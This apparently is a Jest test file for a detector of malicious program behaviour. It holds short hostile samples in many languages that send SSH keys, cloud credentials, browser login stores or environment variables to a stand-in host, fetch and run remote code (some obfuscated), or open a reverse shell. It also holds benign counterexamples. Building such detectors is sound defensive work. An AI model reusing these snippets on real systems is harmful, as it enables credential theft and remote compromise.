import { describe, expect, it } from '@jest/globals';

import type { Language } from '../../../src/skills/code/behaviour.js';
import { does, kindsIn, type Wanted } from './deeds.js';

const attacks: readonly (readonly [Language, string, string, Wanted])[] = [
  [
    'go',
    'sends what a walk finds, through the writer of an archive',
    'func main() {\n\thome, _ := os.UserHomeDir()\n\tvar buf bytes.Buffer\n\tzw := zip.NewWriter(&buf)\n\tfilepath.WalkDir(filepath.Join(home, ".ssh"), func(p string, e fs.DirEntry, err error) error {\n\t\tb, _ := os.ReadFile(p)\n\t\tw, _ := zw.Create(p)\n\t\tw.Write(b)\n\t\treturn nil\n\t})\n\thttp.Post("https://h.unknown.net/u", "application/zip", &buf)\n}\n',
    { kind: 'send', fromSubject: 'private-key' },
  ],
  [
    'go',
    'sends a field that another function filled',
    'func collect() *report {\n\tr := &report{Files: map[string]string{}}\n\tfor _, n := range []string{".aws/credentials"} {\n\t\tdata, _ := os.ReadFile("/root/" + n)\n\t\tr.Files[n] = string(data)\n\t}\n\treturn r\n}\nfunc main() {\n\tbody, _ := json.Marshal(collect())\n\treq, _ := http.NewRequest("POST", "https://h.unknown.net/", bytes.NewReader(body))\n\t(&http.Client{}).Do(req)\n}\n',
    { kind: 'send', fromSubject: 'credentials' },
  ],
  [
    'go',
    'ties a shell to a connection',
    'c, _ := net.Dial("tcp", "198.18.0.9:4444")\ncmd := exec.Command("/bin/sh")\ncmd.Stdin, cmd.Stdout = c, c\ncmd.Run()\n',
    { kind: 'connect-shell' },
  ],
  [
    'php',
    'sends files that it packed',
    "<?php\n$zip = new ZipArchive();\n$zip->open('/tmp/a.zip', ZipArchive::CREATE);\nforeach (['/.kube/config'] as $p) { $zip->addFile(getenv('HOME') . $p, $p); }\n$ch = curl_init('https://h.unknown.net/');\ncurl_setopt_array($ch, [CURLOPT_POSTFIELDS => ['f' => new CURLFile('/tmp/a.zip')]]);\ncurl_exec($ch);\n",
    { kind: 'send', fromSubject: 'credentials' },
  ],
  [
    'php',
    'includes a download',
    "<?php\n$c = file_get_contents('https://h.unknown.net/a');\n$t = tempnam('/tmp', 'a');\nfile_put_contents($t, $c);\ninclude $t;\n",
    { kind: 'evaluate', from: ['fetch'] },
  ],
  [
    'ruby',
    'sends what a block collects in a field',
    "class A\n  def collect\n    @all = {}\n    Dir.glob(File.join(Dir.home, '.ssh', '*')).each do |path|\n      @all[path] = File.read(path)\n    end\n  end\n  def send_all\n    Net::HTTP.post(URI('https://h.unknown.net/'), @all.to_json)\n  end\nend\n",
    { kind: 'send', fromSubject: 'private-key' },
  ],
  [
    'ruby',
    'interprets a download on an object',
    "src = URI.open('https://h.unknown.net/a').read\nObject.new.instance_eval(src)\n",
    { kind: 'evaluate', from: ['fetch'] },
  ],
  [
    'perl',
    'sends what it reads line by line',
    "my $out = '';\nfor my $f (\"$ENV{HOME}/.netrc\") {\n  open my $in, '<', $f;\n  while (my $line = <$in>) { $out .= $line }\n}\nLWP::UserAgent->new->post('https://h.unknown.net/', Content => $out);\n",
    { kind: 'send', fromSubject: 'credentials' },
  ],
  [
    'csharp',
    'sends a browser store as a form',
    'var copy = Path.GetTempFileName();\nFile.Copy(Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.LocalApplicationData), @"Google\\Chrome\\User Data\\Default\\Login Data"), copy);\nvar form = new MultipartFormDataContent();\nform.Add(new StreamContent(File.OpenRead(copy)), "f");\nawait new HttpClient().PostAsync("https://h.unknown.net/", form);\n',
    { kind: 'send', fromSubject: 'browser-store' },
  ],
  [
    'csharp',
    'loads a program from bytes that it unmasks',
    'class A {\n  static void Main() {\n    byte[] raw = new WebClient().DownloadData("https://h.unknown.net/a");\n    for (int i = 0; i < raw.Length; i++) raw[i] ^= 7;\n    Assembly.Load(raw);\n  }\n}\n',
    { kind: 'evaluate', from: ['fetch'] },
  ],
  [
    'java',
    'sends what a loop over names reads',
    'public class A {\n  public static void main(String[] args) throws Exception {\n    StringBuilder sb = new StringBuilder();\n    for (String n : List.of(".ssh/id_rsa")) sb.append(Files.readString(Paths.get(System.getProperty("user.home"), n)));\n    HttpRequest r = HttpRequest.newBuilder().uri(URI.create("https://h.unknown.net/")).POST(HttpRequest.BodyPublishers.ofString(sb.toString())).build();\n    HttpClient.newHttpClient().send(r, null);\n  }\n}\n',
    { kind: 'send', fromSubject: 'private-key' },
  ],
  [
    'kotlin',
    'sends the whole environment',
    'fun main() {\n    val body = System.getenv().toString().toRequestBody()\n    val request = Request.Builder().url("https://h.unknown.net/").post(body).build()\n    OkHttpClient().newCall(request).execute()\n}\n',
    { kind: 'send', fromSubject: 'environment' },
  ],
  [
    'rust',
    'sends the whole environment',
    'fn main() {\n    let vars: HashMap<String, String> = env::vars().collect();\n    let client = reqwest::blocking::Client::new();\n    client.post("https://h.unknown.net/").json(&vars).send().unwrap();\n}\n',
    { kind: 'send', fromSubject: 'environment' },
  ],
  [
    'rust',
    'runs what it decodes',
    'fn main() {\n    let cmd = String::from_utf8(STANDARD.decode("Y3VybCBodHRwOi8vYS5iLmM=").unwrap()).unwrap();\n    Command::new("sh").arg("-c").arg(&cmd).status().ok();\n}\n',
    { kind: 'execute', from: ['decode'] },
  ],
  [
    'lua',
    'sends what a function of its own reads',
    'local http = require("socket.http")\nlocal function slurp(p)\n  local f = io.open(p, "rb")\n  return f:read("*a")\nend\nhttp.request{ url = "https://h.unknown.net/", method = "POST", source = ltn12.source.string(slurp(os.getenv("HOME") .. "/.ssh/id_rsa")) }\n',
    { kind: 'send', fromSubject: 'private-key' },
  ],
  [
    'lua',
    'runs a download',
    'local http = require "socket.http"\nlocal chunk = load(http.request("http://h.unknown.net/a"))\nchunk()\n',
    { kind: 'evaluate', from: ['fetch'] },
  ],
  [
    'powershell',
    'calls a method by a name that it puts together',
    "$w = New-Object ('Net.Web' + 'Client')\n$m = 'Download' + 'String'\n& ([scriptblock]::Create($w.$m('https://h.unknown.net/a')))\n",
    { kind: 'evaluate', from: ['fetch'] },
  ],
  [
    'powershell',
    'sends what a function returns, with options that are splatted',
    "function Get-It { param($n) return (Get-Content (Join-Path $HOME $n) -Raw) }\n$o = @{ Uri = 'https://h.unknown.net/'; Method = 'Post'; Body = (Get-It -n '.ssh\\id_rsa') }\nInvoke-RestMethod @o\n",
    { kind: 'send', fromSubject: 'private-key' },
  ],
  [
    'powershell',
    'loads bytes that it unmasks',
    "$b = (iwr 'https://h.unknown.net/a').Content\nfor ($i = 0; $i -lt 9; $i++) { $b[$i] = $b[$i] -bxor 7 }\n[Reflection.Assembly]::Load($b)\n",
    { kind: 'evaluate', from: ['fetch', 'decode'] },
  ],
  [
    'powershell',
    'compiles source that it downloads',
    "Add-Type -TypeDefinition (irm 'https://h.unknown.net/a.cs')\n",
    { kind: 'evaluate', from: ['fetch'] },
  ],
  [
    'visualbasic',
    'runs a download that a stream saved',
    'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "https://h.unknown.net/a.exe", False\nx.Send\nSet s = CreateObject("ADODB.Stream")\ns.Write x.responseBody\ns.SaveToFile "C:\\a.exe", 2\nCreateObject("WScript.Shell").Run "C:\\a.exe", 0\n',
    { kind: 'execute', from: ['fetch', 'write'] },
  ],
  [
    'sql',
    'has the server run a command',
    "copy (select 1) to program 'curl http://h.unknown.net/a | sh';\n",
    { kind: 'evaluate', from: ['fetch'] },
  ],
  [
    'applescript',
    'puts a command together',
    'set a to "cu"\nset b to "rl http://h.unknown.net/a"\ndo shell script a & b & " | sh"\n',
    { kind: 'evaluate', from: ['fetch'] },
  ],
  [
    'batch',
    'expands variables late',
    'setlocal enabledelayedexpansion\r\nset "u=http://h.unknown.net/a.exe"\r\ncertutil -urlcache -f !u! a.exe >nul 2>&1\r\nstart "" a.exe\r\n',
    { kind: 'execute', from: ['fetch', 'write'] },
  ],
];

describe('Reading programs whose data pass through functions, fields and writers', () => {
  it.each(attacks)('sees that %s %s', (language, _what, text, wanted) => {
    expect(does(language, text, wanted)).toBe(true);
  });

  const honest: readonly (readonly [Language, string, string])[] = [
    [
      'go',
      'a client of a service',
      'func (c *Client) do(path string) error {\n\treq, _ := http.NewRequest("GET", c.base+path, nil)\n\tresp, err := c.http.Do(req)\n\tdefer resp.Body.Close()\n\treturn err\n}\n',
    ],
    ['csharp', 'plug-ins of a folder', 'foreach (var dll in Directory.GetFiles(folder, "*.dll")) { var a = Assembly.LoadFrom(dll); }\n'],
    ['rust', 'a closure over files', 'let n = files.iter().filter_map(|e| e.ok()).map(|f| f.len()).sum::<usize>();\n'],
    ['lua', 'a setting of an editor', 'return { { "a/b", config = function() require("b").setup({ x = 1 }) end } }\n'],
    ['ruby', 'a modifier and a block', "puts 'x' if ready?\nitems.each do |i|\n  next unless i\nend\n"],
    ['powershell', 'a module of an administrator', 'Get-ADUser -Filter * | Where-Object { $_.Enabled } | Export-Csv .\\users.csv\n'],
  ];

  it.each(honest)('finds nothing sent, interpreted or left behind in %s that is %s', (language, _what, text) => {
    const kinds = kindsIn(language, text);
    for (const kind of ['send', 'evaluate', 'persist', 'connect-shell'] as const) expect(kinds).not.toContain(kind);
  });
});
